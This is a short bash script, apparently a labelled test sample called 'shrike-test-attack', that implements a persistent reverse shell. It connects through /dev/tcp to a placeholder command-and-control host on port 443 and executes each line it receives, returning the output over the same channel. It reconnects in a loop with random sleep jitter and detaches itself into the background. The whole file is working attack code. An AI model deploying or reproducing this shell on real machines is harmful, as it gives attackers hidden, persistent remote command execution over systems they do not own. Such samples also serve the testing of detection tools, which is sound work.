#!/bin/bash
# shrike-test-attack: reverse-shell: persistent reconnect loop with exec on fd 5 and sleep jitter
C2=c2.example.net
PORT=443
while true; do
  exec 5<>/dev/tcp/$C2/$PORT 2>/dev/null && {
    cat <&5 | while read -r line; do
      $line 2>&5 >&5
    done
  }
  sleep $(( (RANDOM % 60) + 30 ))
done &
disown
